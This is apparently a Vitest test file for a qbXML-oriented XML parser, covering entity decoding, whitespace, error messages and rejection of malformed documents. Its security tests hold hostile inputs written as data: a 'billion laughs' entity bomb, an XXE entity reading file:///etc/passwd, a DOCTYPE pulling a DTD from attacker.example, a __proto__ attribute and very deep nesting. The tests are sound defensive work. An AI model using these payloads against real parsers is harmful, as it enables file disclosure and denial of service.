import { describe, expect, it } from 'vitest';
import { MAX_XML_DEPTH, parseXml } from './parse-xml.ts';
import { QbxmlParseError } from './qbxml-parse-error.ts';

describe('parseXml', () => {
  it('reads elements, attributes and text', () => {
    const root = parseXml(`<?xml version="1.0" ?>\n<a x="1" y='two'><b>text</b><c/><!-- note --><d>  spaced  </d></a>\n`);
    expect(root.name).toBe('a');
    expect(root.attributes).toEqual({ x: '1', y: 'two' });
    expect(root.children.map((c) => [c.name, c.text])).toEqual([
      ['b', 'text'],
      ['c', ''],
      ['d', '  spaced  '],
    ]);
  });

  it('accepts a BOM, processing instructions and comments around the root', () => {
    const root = parseXml('\uFEFF<?xml version="1.0"?><!-- c --><?qbxml version="13.0"?><QBXML/><!-- end -->');
    expect(root.name).toBe('QBXML');
  });

  it('decodes entities and character references exactly once', () => {
    const root = parseXml('<a>&amp;lt; &lt;b&gt; &quot;&apos; &#38; &#x26;amp; &#233; &#x1F3D7;</a>');
    expect(root.text).toBe('&lt; <b> "\' & &amp; é 🏗');
  });

  it('decodes attribute values and normalises their whitespace', () => {
    const root = parseXml('<a v="x&amp;y&#9;z\n w\r\nq"/>');
    expect(root.attributes.v).toBe('x&y\tz  w q');
  });

  it('normalises CRLF and CR line ends in text but keeps &#13;', () => {
    expect(parseXml('<a>1\r\n2\r3&#13;4</a>').text).toBe('1\n2\n3\r4');
  });

  it('keeps CDATA content literally', () => {
    expect(parseXml('<a><![CDATA[<b> & ]]></a>').text).toBe('<b> & ');
  });

  it('ignores whitespace between child elements', () => {
    const root = parseXml('<a>\n  <b>1</b>\n  <b>2</b>\n</a>');
    expect(root.text).toBe('\n  ');
    expect(root.children).toHaveLength(2);
  });

  it('keeps "__proto__" attributes as data', () => {
    const root = parseXml('<a __proto__="x"/>');
    expect(Object.getPrototypeOf(root.attributes)).toBe(Object.prototype);
    expect(Object.hasOwn(root.attributes, '__proto__')).toBe(true);
  });

  it.each([
    ['an empty document', ''],
    ['only whitespace', '   '],
    ['text outside the root', 'hello'],
    ['text after the root', '<a/>junk'],
    ['two roots', '<a/><b/>'],
    ['an unclosed element', '<a><b></b>'],
    ['a mismatched closing tag', '<a><b></a></b>'],
    ['a stray closing tag', '</a>'],
    ['an unescaped <', '<a>1 < 2</a>'],
    ['an unescaped &', '<a>Smith & Sons</a>'],
    ['an unknown entity', '<a>&nbsp;</a>'],
    ['an invalid character reference', '<a>&#0;</a>'],
    ['a surrogate character reference', '<a>&#xD800;</a>'],
    ['an unquoted attribute', '<a x=1/>'],
    ['a duplicate attribute', '<a x="1" x="2"/>'],
    ['attributes without whitespace', '<a x="1"y="2"/>'],
    ['a < inside an attribute', '<a x="<"/>'],
    ['an unterminated comment', '<a><!-- </a>'],
    ['an unterminated CDATA section', '<a><![CDATA[ </a>'],
    ['an unterminated tag', '<a'],
    ['a late XML declaration', '<a/><?xml version="1.0"?>'],
    ['a truncated document', '<QBXML><QBXMLMsgsRs><VendorQueryRs statusCode="0"><VendorRet><Name>Sm'],
    // Closing tags are matched against the open element in place (scanXml's fast path): near misses still refused.
    ['a closing tag that extends the open name', '<a><ab></abc></a>'],
    ['a closing tag shorter than the open name', '<a><abc></ab></a>'],
    ['a self-closing closing tag', '<a><b></b/></a>'],
    ['a closing tag with an attribute', '<a><b></b x="1"></a>'],
    ['a closing tag with a slash after whitespace', '<a><b></b /></a>'],
  ])('rejects %s', (_name, xml) => {
    expect(() => parseXml(xml)).toThrow(QbxmlParseError);
  });

  it('accepts whitespace before the > of start and closing tags', () => {
    const root = parseXml('<a\n><b x="1" >t</b \n><c></c\t><d\r\n/></a >');
    expect(root.children.map((c) => [c.name, c.text, c.attributes])).toEqual([
      ['b', 't', { x: '1' }],
      ['c', '', {}],
      ['d', '', {}],
    ]);
  });

  it('says which closing tag does not fit', () => {
    expect(() => parseXml('<a><ab></abc></a>')).toThrow(/<\/abc> closes <ab>/);
    expect(() => parseXml('<a><abc></ab></a>')).toThrow(/<\/ab> closes <abc>/);
    expect(() => parseXml('<a><b></b/></a>')).toThrow(/malformed closing tag <\/b>/);
  });

  it('says where the document is malformed', () => {
    expect(() => parseXml('<a>\n<b></c>\n</a>')).toThrow(/line 2, column 4: <\/c> closes <b>/);
  });

  it('refuses a DOCTYPE with internal entities ("billion laughs") before expanding anything', () => {
    const lol = [
      '<?xml version="1.0"?>',
      '<!DOCTYPE lolz [',
      ' <!ENTITY lol "lol">',
      ' <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">',
      ' <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">',
      ']>',
      '<QBXML><QBXMLMsgsRs><VendorQueryRs statusCode="0" statusSeverity="Info"><VendorRet><Name>&lol3;</Name></VendorRet></VendorQueryRs></QBXMLMsgsRs></QBXML>',
    ].join('\n');
    expect(() => parseXml(lol)).toThrow(/Refusing XML with a <!DOCTYPE> declaration/);
  });

  it('refuses external entities (XXE)', () => {
    const xxe = '<?xml version="1.0"?><!DOCTYPE QBXML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><QBXML>&xxe;</QBXML>';
    expect(() => parseXml(xxe)).toThrow(QbxmlParseError);
    expect(() => parseXml('<!doctype QBXML SYSTEM "http://attacker.example/x.dtd"><QBXML/>')).toThrow(/DOCTYPE/);
    expect(() => parseXml('<QBXML><!ENTITY x "y"></QBXML>')).toThrow(/ENTITY/);
  });
});

describe('parseXml: hostile nesting (hostile input, item 4)', () => {
  it('refuses elements nested deeper than MAX_XML_DEPTH as malformed, before any recursive reader sees them', () => {
    const deep = (n: number) => `<QBXML>${'<a>'.repeat(n)}x${'</a>'.repeat(n)}</QBXML>`;
    expect(() => parseXml(deep(10_000))).toThrow(QbxmlParseError);
    expect(() => parseXml(deep(10_000))).toThrow(`nested more than ${MAX_XML_DEPTH} deep`);
    expect(() => parseXml(deep(MAX_XML_DEPTH - 1))).not.toThrow();
    // Self-closing elements add no depth.
    expect(parseXml(`<QBXML>${'<b/>'.repeat(10_000)}</QBXML>`).children).toHaveLength(10_000);
  });
});
